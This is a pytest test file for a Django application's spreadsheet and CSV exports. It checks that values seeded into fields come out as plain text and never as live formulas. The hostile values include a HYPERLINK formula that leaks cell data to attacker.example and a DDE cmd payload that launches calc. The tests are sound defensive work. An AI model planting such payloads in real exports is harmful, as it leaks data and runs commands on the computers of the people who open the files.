"""Every spreadsheet and CSV export, the command line's included, with text that a
spreadsheet would run as a formula in every field a person or a file can fill: read back,
no cell is a formula and every hostile text is there as plain text (issue 15)."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from readiness.actions.models import ActionItem
from readiness.assessment.services import update_assessment
from readiness.evidence.models import Alignment, EvidenceDocument
from readiness.frameworks.models import Judgement, LineOfEnquiry
from readiness.lib.testing.factories import (
    ActionItemFactory,
    AgencyFactory,
    MembershipFactory,
    UserFactory,
)
from readiness.lib.text import FORMULA_STARTS
from readiness.reviews.models import Membership

pytestmark = [pytest.mark.django_db, pytest.mark.clock("2026-11-26")]

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
HOSTILE = {
    "agency": HYPERLINK,
    "title": "+SUM(1,2)",
    "item": "-2+3 cmd|' /C calc'!A0",
    "owner": "@SUM(1)",
    "rationale": "\t=1+1",
    "strengths": "\r=2+2",
}


@pytest.fixture
def hostile(review, lead):
    agency = AgencyFactory(review=review, name=HOSTILE["agency"])
    owner = UserFactory(username="owner", first_name=HOSTILE["owner"], last_name="")
    MembershipFactory(review=review, user=owner, role=Membership.REVIEWER)
    document = EvidenceDocument.objects.create(
        review=review, content_hash="1" * 64, title=HOSTILE["title"], agency=agency,
        file_type="txt", size_bytes=1, stored_name="x",
    )  # fmt: skip
    line = LineOfEnquiry.objects.filter(judgement__framework=review.framework).first()
    Alignment.objects.create(
        document=document, line_of_enquiry=line, confidence=0.9, status=Alignment.CONFIRMED
    )
    item = ActionItemFactory(review=review, text=HOSTILE["item"], owner=owner, owner_agency=agency)
    ActionItem.objects.filter(pk=item.pk).update(due_date=date(2026, 11, 20))
    judgement = Judgement.objects.filter(framework=review.framework).first()
    update_assessment(
        review, judgement, lead, grade=None, rationale=HOSTILE["rationale"],
        strengths=HOSTILE["strengths"], areas_for_improvement="", confidence="",
    )  # fmt: skip
    return review


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells: list, expected: set[str]) -> None:
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t[:1] in FORMULA_STARTS] == []
    for text in expected:
        # The hostile text is kept whole, written as text (a leading apostrophe); the
        # characters no file can hold (a carriage return) are taken out first.
        shown = "'" + text.replace("\r", "") if text[:1] != "\r" else "'" + text[1:]
        assert shown in texts, text


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_judgement_exports_neutralise_formulas(as_lead, hostile):
    content = as_lead.get(reverse("assessment:export", args=[hostile.id, "xlsx"])).content
    _assert_no_formula(_xlsx_cells(content), {HOSTILE["rationale"]})
    text = as_lead.get(reverse("assessment:export", args=[hostile.id, "csv"])).content
    cells = _csv_cells(text.decode("utf-8-sig"))
    assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
    assert "'" + HOSTILE["rationale"] in cells


def test_the_evidence_index_has_no_live_hyperlink(as_lead, hostile):
    content = as_lead.get(reverse("evidence:index", args=[hostile.id, "xlsx"])).content
    cells = _xlsx_cells(content)
    _assert_no_formula(cells, {HOSTILE["agency"], HOSTILE["title"]})
    header = [c.value for c in load_workbook(io.BytesIO(content)).active[1]]
    agency_column = [
        row[header.index("Agency")]
        for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True)
        if row[3] == "'" + HOSTILE["title"]
    ]
    assert agency_column == ["'" + HYPERLINK]


def test_the_action_plan_workbook_neutralises_formulas(as_lead, hostile):
    content = as_lead.get(reverse("actions:export", args=[hostile.id])).content
    _assert_no_formula(_xlsx_cells(content), {HOSTILE["item"], HOSTILE["agency"]})


def test_the_countdown_workbook_neutralises_formulas(as_lead, hostile):
    response = as_lead.get(
        reverse("countdown:export", args=[hostile.id, "xlsx"]) + "?called=2026-11-23"
    )
    assert response.status_code == 200
    # The item's text is quoted inside a sentence; the owner and agency stand alone.
    _assert_no_formula(_xlsx_cells(response.content), {HOSTILE["owner"], HOSTILE["agency"]})


def test_the_command_lines_csv_neutralises_formulas(hostile, capsysbinary):
    out = io.StringIO()
    call_command("actions", "list", "--review", str(hostile.id), "--format", "csv", stdout=out)
    cells = _csv_cells(out.getvalue())
    assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
    assert {"'" + HOSTILE["item"], "'" + HOSTILE["agency"]} <= set(cells)
    call_command("judgements", "export", "--review", str(hostile.id), "--format", "csv")
    cells = _csv_cells(capsysbinary.readouterr().out.decode("utf-8-sig"))
    assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
    assert "'" + HOSTILE["rationale"] in cells
